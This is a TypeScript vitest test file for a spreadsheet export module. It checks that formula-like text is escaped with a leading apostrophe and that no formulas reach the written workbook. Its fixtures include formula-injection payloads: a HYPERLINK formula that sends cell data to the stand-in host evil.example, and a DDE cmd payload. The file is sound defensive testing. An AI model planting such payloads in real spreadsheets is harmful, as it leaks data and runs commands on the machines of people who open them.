import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildWorkbook, spreadsheetText } from './excel';

/** The first sheet's data rows as exceljs reads them back: each cell's type and value. */
async function readBack(bytes: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const rows: { type: ExcelJS.ValueType; value: ExcelJS.CellValue }[][] = [];
  workbook.worksheets[0]!.eachRow((row, number) => {
    if (number === 1) return;
    const cells: { type: ExcelJS.ValueType; value: ExcelJS.CellValue }[] = [];
    row.eachCell({ includeEmpty: true }, (cell) => {
      cells.push({ type: cell.type, value: cell.value });
    });
    rows.push(cells);
  });
  return rows;
}

describe('Excel exports and formula injection', () => {
  it('prefixes text that a spreadsheet would start a formula with, and nothing else', () => {
    for (const text of ['=1+1', '+8613800138000', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'])
      expect(spreadsheetText(text)).toBe(`'${text}`);
    for (const text of ['张三', '1=1', 'a+b', '2026-03-02', '', ' =1', "'quoted"])
      expect(spreadsheetText(text)).toBe(text);
  });

  it('writes every such text cell as literal text, keeps numbers numbers and blanks blank', async () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?"&A1,"点此")',
      "+cmd|' /C calc'!A0",
      '-1+1',
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
    ];
    const bytes = await buildWorkbook(
      '一览表',
      [
        { header: '文本', value: (r: { text: string; n: number | null }) => r.text },
        { header: '数值', value: (r) => r.n },
      ],
      [...payloads.map((text, i) => ({ text, n: -i - 0.5 })), { text: '张三', n: null }],
    );
    const rows = await readBack(bytes);
    expect(rows).toHaveLength(payloads.length + 1);
    payloads.forEach((text, i) => {
      // XML reads a carriage return back as a line feed; the apostrophe is what matters.
      expect(rows[i]![0]).toEqual({ type: ExcelJS.ValueType.String, value: `'${text.replace('\r', '\n')}` });
      // A negative number is a number, not a formula: it stays one.
      expect(rows[i]![1]).toEqual({ type: ExcelJS.ValueType.Number, value: -i - 0.5 });
    });
    expect(rows.at(-1)![0]).toEqual({ type: ExcelJS.ValueType.String, value: '张三' });
    expect(rows.at(-1)![1]?.type ?? ExcelJS.ValueType.Null).toBe(ExcelJS.ValueType.Null);
    const formulas = rows.flat().filter((c) => c.type === ExcelJS.ValueType.Formula);
    expect(formulas).toEqual([]);
  });
});
